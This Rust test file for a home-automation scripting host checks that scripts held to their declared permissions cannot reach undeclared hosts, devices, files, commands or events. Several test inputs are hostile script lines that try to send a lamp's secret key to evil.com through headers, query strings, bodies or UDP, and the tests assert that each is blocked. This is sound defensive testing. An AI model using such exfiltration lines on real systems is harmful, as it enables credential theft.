//! A script that is held to what it declares reaches nothing else, by whatever route.

use super::support::{Asked, NOW, event, ok, on_big_stack};
use porchlight_core::{Outcome, Run, Wait};
use porchlight_script::permissions::{Mode, Need, Policy};
use porchlight_script::*;
use serde_json::{Value, json};
use std::sync::{Arc, Mutex};

/// A host in which scripts are held to their headers; notes what is asked.
fn declared_host(files: &[(&str, &str)], allow: &[&str]) -> (Host, Asked, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    for (path, text) in files {
        let path = dir.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    let asked = Asked::new(Mutex::default());
    let noted = asked.clone();
    let mut permissions = Policy {
        mode: Mode::Declared,
        ..Policy::default()
    };
    if !allow.is_empty() {
        let needs = allow.iter().map(|text| Need::parse(text, &[]).unwrap());
        permissions
            .allow
            .insert("gate.rhai".into(), needs.collect());
    }
    let host = Host::new(HostConfig {
        scripts_dir: dir.path().to_owned(),
        settings: json!({"gate": {"key": {"$secret": "settings.gate.key"}}}),
        targets: json!({
            "light": {
                "porch": {"driver": "wled", "url": "http://10.0.0.5"},
                "strip": {"driver": "lifx", "host": "10.0.0.8", "key": {"$secret": "light.strip.key"}},
                "yard": {"driver": "wled", "url": "https://10.0.0.7", "tls": "yard", "oauth": "yard"},
                "zig": {"driver": "zigbee2mqtt", "device": "porch"},
                "tas": {"driver": "tasmota-mqtt", "topic": "t1"},
                "far": {"driver": "zigbee2mqtt", "device": "far", "base": "z2", "broker": "yard"},
                "hall": {"driver": "hue", "url": "https://10.0.0.2", "key": {"$secret": "light.hall.key"}, "id": "abc"},
            },
            "siren": {"yard": {"driver": "zigbee2mqtt", "device": "siren"}},
            "message": {
                "office": {"service": "teams", "url": {"$secret": "message.office.url"}},
                "family": {"service": "ntfy", "url": "https://ntfy.sh", "topic": "t"},
            },
        }),
        rules: Rules {
            permissions,
            ..Rules::default()
        },
        ask: Arc::new(move |kind, args, _| {
            noted.lock().unwrap().push((kind.to_owned(), args.clone()));
            Ok(json!({"ok": true, "status": 200, "json": {"on": true}}))
        }),
        clock: Arc::new(|| NOW),
        ..HostConfig::default()
    });
    (host, asked, dir)
}

/// Runs the first handler, or says why the script did not load.
fn tried(
    files: &[(&str, &str)],
    allow: &[&str],
    source: &str,
) -> Result<(Run, Vec<(String, Value)>), String> {
    let own = |texts: &[(&str, &str)]| -> Vec<(String, String)> {
        let texts = texts.iter();
        texts.map(|(a, b)| (a.to_string(), b.to_string())).collect()
    };
    let (files, source) = (own(files), source.to_owned());
    let allow: Vec<String> = allow.iter().map(|one| one.to_string()).collect();
    on_big_stack(move || {
        let files: Vec<(&str, &str)> = files
            .iter()
            .map(|(a, b)| (a.as_str(), b.as_str()))
            .collect();
        let allow: Vec<&str> = allow.iter().map(String::as_str).collect();
        let (host, asked, _dir) = declared_host(&files, &allow);
        let script = host.load("gate.rhai", &source).map_err(|mistakes| {
            let texts = mistakes.iter().map(|one| one.render(false));
            texts.collect::<Vec<_>>().join("\n")
        })?;
        let run = host.run(&script, 0, &event("a.b", json!({"n": 3})), NOW);
        let asked = asked.lock().unwrap().clone();
        Ok((run, asked))
    })
}

fn refused(outcome: &Outcome) -> Option<&str> {
    match outcome {
        Outcome::Error { message, .. } if message.contains("may not") => Some(message),
        _ => None,
    }
}

/// A handler with this body under this header does nothing outside, and says why.
fn nothing_leaves(header: &str, files: &[(&str, &str)], body: &str) {
    let source = format!(
        "//! needs: event **\n{header}\nfn run_it(f) {{ f.call() }}\non(\"**\", |event| {{ {body} }});"
    );
    match tried(files, &[], &source) {
        Err(mistakes) => assert!(
            mistakes.contains("this script may not"),
            "{body}: {mistakes}"
        ),
        Ok((run, asked)) => {
            assert!(run.actions.is_empty(), "{body}: {:?}", run.actions);
            assert!(run.waits.is_empty(), "{body}: {:?}", run.waits);
            assert!(asked.is_empty(), "{body}: {asked:?}");
            assert!(run.emitted.is_empty() && run.state.is_empty(), "{body}");
            let said = run.logs.iter().any(|line| line.message.contains("may not"));
            assert!(
                said || refused(&run.outcome).is_some(),
                "{body}: {:?}",
                run.outcome
            );
        }
    }
}

#[test]
fn nothing_undeclared_is_reached_by_any_route() {
    let evil = [
        (
            "lib/evil.rhai",
            "fn run_it(url) { http::send(url); }\nfn key() { target(\"light\", \"hall\").key }",
        ),
        (
            "lib/light.rhai",
            "fn on(name) { http::send(\"http://10.0.0.\" + \"6/\"); command::start(\"x\" + name); }",
        ),
    ];
    for body in [
        "http::send(\"http://gate.lan/open\");",
        "http::send(\"http://gate\" + \".lan/open\");",
        "http::send(`http://${\"gate.lan\"}/open`);",
        "try { http::send(\"http://gate\" + \".lan/\"); } catch (e) { log::info(e); }",
        "http::get(\"http://gate\" + \".lan/\");",
        "let u = \"http://gate.lan/\"; u.to_upper(); http::get(u);",
        "run_it(|| http::send(\"http://gate\" + \".lan/\"));",
        "let f = |u| http::post(u); f.call(\"http://gate.lan/\");",
        "[\"http://gate.lan/\"].map(|u| http::send(u));",
        "import_free();",
        "target(\"light\", \"porch\");",
        "let k = \"light\"; target(k, \"hall\");",
        "light::on(\"porch\");",
        "let n = \"porch\"; light::on(n);",
        "message::send(\"office\", \"x\");",
        "sheet::append(\"a.csv\", [1]);",
        "sheet::read(\"a\" + \".csv\");",
        "file::save(\"a\" + \".txt\", \"x\");",
        "file::append(\"a\" + \".txt\", \"x\");",
        "file::read(\"a\" + \".txt\");",
        "command::start(\"x\" + \"y\");",
        "command::run(\"x\" + \"y\", #{ a: 1 });",
        "net::udp(\"lamp\" + \".lan\", 56700, \"x\");",
        "net::tcp(\"lamp.lan\", 80, \"x\");",
        "mail::send(\"fam\" + \"ily\", \"x\");",
        "file::prune(\"a\" + \"b\", #{ files: 1 });",
        "net::wake(\"a4:bb:6d:00:00:01\");",
        "net::ask_udp(\"lamp\" + \".lan\", 56700, \"x\");",
        "net::ask_tcp(\"lamp\" + \".lan\", 80, \"x\");",
        "emit(\"a.\" + \"c\", #{});",
        "state::set(\"other.\" + \"x\", 1);",
        "state::add(\"other.\" + \"x\", 1);",
        "state::remove(\"other.\" + \"x\");",
        "log::info(state::get(\"other.\" + \"x\"));",
        "state::keys(\"\" + \"\");",
        "state::keys();",
        "budget(\"s\" + \"ms\", 1, \"1d\");",
        "log::info(budget_left(\"s\" + \"ms\", 1, \"1d\"));",
        "budget(\"sms\", 1, \"1d\");",
        "budget(\"gated\", 1, \"1d\");",
        "wait_for(\"state.\" + \"changed\", #{ within: \"1m\" }, |e| log::info(e.data));",
        "wait_for(\"state.*\", #{ within: \"1m\" }, |e| log::info(e.data));",
    ] {
        let body = body.replace("import_free();", "e::run_it(\"http://gate.lan/\");");
        let header = if body.contains("e::") {
            "import \"lib/evil\" as e;"
        } else {
            ""
        };
        let files = if body.contains("e::") {
            &evil[..1]
        } else {
            &[]
        };
        nothing_leaves(header, files, &body);
    }
    // A function in the place of a native is a function of the script.
    let header = "//! needs: light porch\nfn target(kind, name) { #{ url: \"http://10.0.0.9\", driver: \"wled\" } }";
    nothing_leaves(header, &[], "light::on(\"porch\");");
    // A library in the place of the standard one gets what the script has, and no more.
    nothing_leaves("//! needs: light porch", &evil, "light::on(\"porch\");");
}

#[test]
fn declared_things_are_reached() {
    let source = "//! needs: http gate.lan, light porch, message office, file a.csv
//! needs: command backup, emit gate.*, event **, state visits., budget sms
on(\"**\", |event| {
    http::send(\"http://gate.lan/open\");
    light::flash(\"porch\");
    message::send(\"office\", \"somebody\");
    sheet::append(\"a.csv\", [1]);
    command::start(\"backup\");
    emit(\"gate.opened\");
    state::set(\"visits.today\", 1);
    state::set(\"gate.last\", 1);
    if !budget(\"sms\", 1, \"1d\") || !budget(\"gate\", 1, \"1d\") { throw \"no budget\"; }
    http::send(\"http://gate.lan/\", #{ lane: \"http:siren.lan\" });
});";
    let (run, asked) = tried(&[], &[], source).unwrap_or_else(|e| panic!("{e}"));
    let run = ok(run);
    assert_eq!((run.actions.len(), run.emitted.len()), (6, 1));
    assert_eq!(
        run.actions[5].lane, "gate/http:siren.lan",
        "a lane of its own"
    );
    assert_eq!(asked.len(), 1, "the state of the lamp was asked for");
    assert_eq!(
        run.actions[0].args["hosts"],
        json!(["gate.lan", "10.0.0.5"]),
        "redirects stay with these"
    );
}

#[test]
fn bytes_go_to_declared_hosts_and_to_the_targets_own() {
    let source = "//! needs: event **, net lamp.lan:56700, net *.iot, light strip
//! needs: net 255.255.255.255:9
on(\"**\", |event| {
    net::udp(\"lamp.lan\", 56700, blob(2, 7));
    net::tcp(\"Relay.IOT\", 6722, \"11\");
    net::udp(\"10.0.0.8\", 56700, \"x\" + target(\"light\", \"strip\").key);
    net::wake(\"a4:bb:6d:00:00:01\");
    net::udp(\"lamp\" + \".lan\", 56701, \"x\");
});";
    let (run, _) = tried(&[], &[], source).unwrap_or_else(|e| panic!("{e}"));
    let refusal = refused(&run.outcome).unwrap_or_default().to_owned();
    assert!(
        refusal.contains("`net lamp.lan:56701`"),
        "{:?}",
        run.outcome
    );
    assert_eq!(run.actions.len(), 4);
    assert_eq!(run.actions[0].args["payload"], json!({"$bytes": "Bwc="}));
}

#[test]
fn a_mistake_in_plain_sight_has_a_caret_and_the_line_to_add() {
    let source = "//! needs: event **\non(\"**\", |event| {\n    http::send(\"http://gate.lan:8080/open\");\n});";
    let text = tried(&[], &[], source).unwrap_err();
    assert!(text.contains("gate.rhai:3:16"), "{text}");
    assert!(
        text.contains("add `//! needs: http gate.lan:8080` to the header of gate.rhai"),
        "{text}"
    );
    let text = tried(&[], &[], "//! needs: ligth porch\non(\"**\", |event| ());").unwrap_err();
    assert!(text.contains("gate.rhai:1:12"), "{text}");
    assert!(text.contains("did you mean `light`?"), "{text}");
}

#[test]
fn a_targets_secret_goes_to_the_target_and_nowhere_else() {
    let steals = [
        "http::send(\"http://evil.com/\", #{ headers: #{ a: target(\"light\", \"hall\").key } });",
        "http::get(\"http://evil.com/?\" + target(\"light\", \"hall\").key);",
        "http::send(\"http://evil.com/\", #{ json: [#{ x: [\"k\" + target(\"light\", \"hall\").key] }] });",
        "http::send(\"http://evil.com/\", #{ auth: #{ bearer: target(\"light\", \"hall\").key } });",
        "http::send(\"http://10.0.0.5/\", #{ body: target(\"light\", \"hall\").key });",
        "http::get(\"http://\" + target(\"light\", \"hall\").key);",
        "http::get(target(\"light\", \"hall\").key + \"@evil.com/\");",
        "http::get(target(\"light\", \"hall\").key);",
        "command::run(\"backup\", target(\"light\", \"hall\").key);",
        "net::udp(\"evil.com\", 9, target(\"light\", \"hall\").key);",
        "net::udp(\"10.0.0.2\", 443, target(\"light\", \"hall\").key);",
        "http::send(\"http://evil.com/\", #{ body: target(\"message\", \"office\").url });",
        "http::send(target(\"message\", \"office\").url + \".evil.com/\");",
        "http::send(target(\"message\", \"office\").url, #{ body: target(\"light\", \"hall\").key });",
        "http::send(\"http://evil.com/\", #{ body: key });",
    ];
    let header = "//! needs: event **, http evil.com, net *, light *, message office, command backup\nlet key = setting(\"key\", \"\");";
    for body in steals {
        let source = format!("{header}\non(\"**\", |event| {{ {body} }});");
        let (run, asked) = tried(&[], &[], &source).unwrap_or_else(|e| panic!("{body}: {e}"));
        assert!(
            matches!(run.outcome, Outcome::Error { .. }),
            "{body}: {:?}",
            run.outcome
        );
        assert!(run.actions.is_empty() && asked.is_empty(), "{body}");
    }
    let honest =
        "//! needs: event **, light hall, message office, secret settings.gate.key, http evil.com
let key = setting(\"key\", \"\");
on(\"**\", |event| {
    light::on(\"hall\");
    message::send(\"office\", \"x\");
    http::send(\"http://evil.com/\", #{ body: key });
});";
    let (run, _) = tried(&[], &[], honest).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(ok(run).actions.len(), 3);
}

#[test]
fn tokens_certificates_and_files_of_a_request_have_to_be_declared() {
    let header = "//! needs: event **, http evil.com, light *, message office";
    for body in [
        "http::send(\"http://evil.com/\", #{ auth: #{ oauth: \"google\" } });",
        "http::get(\"http://evil.com/\", #{ auth: #{ oauth: \"yard\" } });",
        "http::get(\"https://evil.com/\", #{ tls: \"yard\" });",
        "http::get(\"https://10.0.0.2/\", #{ tls: \"yard\" });",
        "http::get(\"http://evil.com/\", #{ save: \"a.jpg\" });",
    ] {
        let source = format!("{header}\non(\"**\", |event| {{ {body} }});");
        let (run, asked) = tried(&[], &[], &source).unwrap_or_else(|e| panic!("{body}: {e}"));
        assert!(refused(&run.outcome).is_some(), "{body}: {:?}", run.outcome);
        assert!(run.actions.is_empty() && asked.is_empty(), "{body}");
    }
    let honest = "//! needs: event **, light yard, http evil.com, oauth goo*, tls bridge, file *.jpg
on(\"**\", |event| {
    http::send(\"https://10.0.0.7/\", #{ auth: #{ oauth: \"yard\" }, tls: \"yard\" });
    http::send(\"https://evil.com/\", #{ auth: #{ oauth: \"google\" }, tls: \"bridge\", save: \"a.jpg\" });
});";
    let (run, _) = tried(&[], &[], honest).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(ok(run).actions.len(), 2);
}

/// What is wrong with a script that hears this under this header; nothing when it loads.
fn hears(needs: &str, top: &str) -> String {
    let source = format!("//! needs: {needs}\nlet all = \"**\";\n{top}");
    tried(&[], &[], &source).err().unwrap_or_default()
}

#[test]
fn a_script_hears_only_the_events_and_the_state_that_it_declares() {
    let quiet = "on(\"gate.*\", || ());\n";
    for (needs, top) in [
        ("event gate.*", "on(\"gate.opened\", || ());"),
        ("event gate.**", "on(\"gate.*.left\", || ());"),
        ("event **", "on(all, || ());"),
        ("event state.*", "on(\"state.changed\", || ());"),
        ("event gate.*", "on_silence(\"gate.*\", \"1h\", || ());"),
        ("state door.", "on_state(\"door.*\", || ());"),
        ("light porch", "on_state(\"gate.mode\", || ());"),
        ("light porch", "every(\"1h\", || ());"),
        (
            "event gate.*",
            "on(\"gate.*\", || wait_for(\"gate.closed\", #{ within: \"1m\" }, || ()));",
        ),
    ] {
        assert_eq!(hears(needs, top), "", "{needs}: {top}");
    }
    for (needs, top, help) in [
        (
            "event gate.*",
            "on(\"door.opened\", || ());",
            "event door.opened",
        ),
        ("event gate.*", "on(\"gate.**\", || ());", "event gate.**"),
        ("event gate.*", "on(all, || ());", "event **"),
        (
            "event **",
            "on(\"state.changed\", || ());",
            "event state.changed",
        ),
        ("event **", "on(\"state.**\", || ());", "event state.**"),
        (
            "light porch",
            "on(\"porchlight.**\", || ());",
            "event porchlight.**",
        ),
        (
            "event gate.*",
            "on_silence(\"**\", \"1h\", || ());",
            "event **",
        ),
        ("event gate.*", "on_state(\"**\", || ());", "state **"),
    ] {
        let said = hears(&format!("event gate.*, {needs}"), &format!("{quiet}{top}"));
        assert!(
            said.contains("this script may not"),
            "{needs}: {top}: {said}"
        );
        assert!(
            said.contains(&format!("`//! needs: {help}`")),
            "{needs}: {top}: {said}"
        );
        assert_eq!(said.matches("error:").count(), 1, "told once: {said}");
    }
    let said = hears("event gate.*", "on(\"door.opened\", || ());");
    assert!(
        said.contains("this script may not hear `door.opened`"),
        "{said}"
    );
    assert!(said.contains("gate.rhai:3:4"), "{said}");
    assert_eq!(said.matches("error:").count(), 1, "{said}");
}

#[test]
fn of_a_version_that_may_not_hear_its_events_only_the_waits_are_left() {
    on_big_stack(|| {
        let (host, _, _dir) = declared_host(&[], &[]);
        let open = Host::new(HostConfig::default());
        let source = "on(\"gate.*\", |event| { later(\"1s\", || log::info(\"late\")); });";
        let old = open.load("gate.rhai", source).unwrap();
        let begun = ok(open.run(&old, 0, &event("gate.opened", json!({})), NOW));
        assert!(host.load("gate.rhai", source).is_err());
        let pinned = host.load_version("gate.rhai", &old.sources).unwrap();
        assert!(pinned.handlers.is_empty(), "it hears nothing");
        let wait = Wait {
            id: 1,
            content: begun.waits[0].clone(),
        };
        let run = ok(host.run_wait(&pinned, &wait, None, NOW));
        assert_eq!(run.logs[0].message, "late");
    });
}

#[test]
fn the_owners_list_counts_instead_of_the_header() {
    let source = "//! needs: command backup\non(\"**\", |event| { let c = \"backup\"; command::start(c); });";
    let (run, _) =
        tried(&[], &["http gate.lan", "event **"], source).unwrap_or_else(|e| panic!("{e}"));
    let message = refused(&run.outcome).unwrap_or_default().to_owned();
    assert!(
        message.contains("add \"command backup\" to `allow` of [script.\"gate.rhai\"]"),
        "{message}"
    );
    let source = "on(\"**\", |event| { http::send(\"http://gate.lan/\"); });";
    let (run, _) =
        tried(&[], &["http gate.lan", "event **"], source).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(ok(run).actions.len(), 1);
}

#[test]
fn a_wait_of_an_older_version_keeps_the_rights_of_its_own_header() {
    on_big_stack(|| {
        let (host, _, _dir) = declared_host(&[], &[]);
        let poor = "//! needs: event **\non(\"**\", |event| { later(\"1s\", || { let c = \"backup\"; command::start(c); }); });";
        let old = host.load("gate.rhai", poor).unwrap();
        let begun = ok(host.run(&old, 0, &event("a", json!({})), NOW));
        let rich = format!("//! needs: command backup\n{poor}");
        host.load("gate.rhai", &rich).unwrap();
        let pinned = host.load_version("gate.rhai", &old.sources).unwrap();
        let wait = Wait {
            id: 1,
            content: begun.waits[0].clone(),
        };
        let run = host.run_wait(&pinned, &wait, None, NOW);
        assert!(refused(&run.outcome).is_some(), "{:?}", run.outcome);
        assert!(run.actions.is_empty());
    });
}

#[test]
fn what_a_script_reaches_can_be_listed() {
    let reach = |mode: Mode, source: &'static str| {
        on_big_stack(move || {
            let permissions = Policy {
                mode,
                ..Policy::default()
            };
            let rules = Rules {
                permissions,
                ..Rules::default()
            };
            let host = Host::new(HostConfig {
                rules,
                ..HostConfig::default()
            });
            host.load("gate.rhai", source).unwrap().reach().to_string()
        })
    };
    let source = "//! needs: event **, http gate.lan, light porch, file *.csv
on(\"**\", |event| {
    http::send(\"http://gate.lan/open\");
    http::get(`http://gate.lan/${event.id}`);
    light::on(\"porch\");
    sheet::append(`${event.id}.csv`, [1]);
});";
    assert_eq!(
        reach(Mode::Open, source),
        "http gate.lan, light porch, event **, any file (seen in its text; nothing holds it to that)"
    );
    assert_eq!(
        reach(Mode::Declared, source),
        "http gate.lan, light porch, file *.csv, event ** (and nothing else)"
    );
}

#[test]
fn a_lamp_or_siren_behind_a_broker_needs_no_topic_of_its_own() {
    for (needs, body, topics) in [
        ("light zig", "light::on(\"zig\"); light::flash(\"zig\");", 2),
        (
            "light tas",
            "light::flash(\"tas\"); light::off(\"tas\");",
            2,
        ),
        (
            "siren yard",
            "siren::sound(\"yard\"); siren::stop(\"yard\");",
            2,
        ),
        ("light far", "light::on(\"far\");", 1),
        (
            "light zig",
            "mqtt::publish(\"zigbee2mqtt/por\" + \"ch/set\", #{ state: \"ON\" });",
            1,
        ),
    ] {
        let source = format!("//! needs: event **, {needs}\non(\"**\", |event| {{ {body} }});");
        let (run, _) = tried(&[], &[], &source).unwrap_or_else(|wrong| panic!("{wrong}"));
        assert_eq!(run.outcome, Outcome::Ok, "{body}");
        assert_eq!(run.actions.len(), topics, "{body}");
    }
    for (needs, body) in [
        // Another lamp, what is not told but asked, all at once, another broker, and other targets.
        (
            "light zig",
            "mqtt::publish(\"zigbee2mqtt/oth\" + \"er/set\", \"x\");",
        ),
        (
            "light zig",
            "mqtt::publish(\"zigbee2mqtt/porch\" + \"/set/state\", \"x\");",
        ),
        (
            "light zig",
            "mqtt::publish(\"zigbee2mqtt/bridge/requ\" + \"est/restart\", \"x\");",
        ),
        (
            "light zig",
            "on_mqtt(\"zigbee2mqtt/porch/set\", |event| ());",
        ),
        ("light zig", "siren::sound(\"yard\");"),
        ("siren zig", "light::on(\"zig\");"),
        (
            "light tas",
            "mqtt::publish(\"cmnd/t1/Back\" + \"log/x\", \"x\");",
        ),
        (
            "light tas",
            "mqtt::publish(\"cmnd/t11/Pow\" + \"er\", \"x\");",
        ),
        (
            "light far",
            "mqtt::publish(\"z2/far/s\" + \"et\", \"x\", #{ broker: \"home\" });",
        ),
        (
            "light zig",
            "mqtt::request(\"zigbee2mqtt/porch/s\" + \"et\", \"x\", \"a/b\");",
        ),
    ] {
        nothing_leaves(&format!("//! needs: {needs}"), &[], body);
    }
}
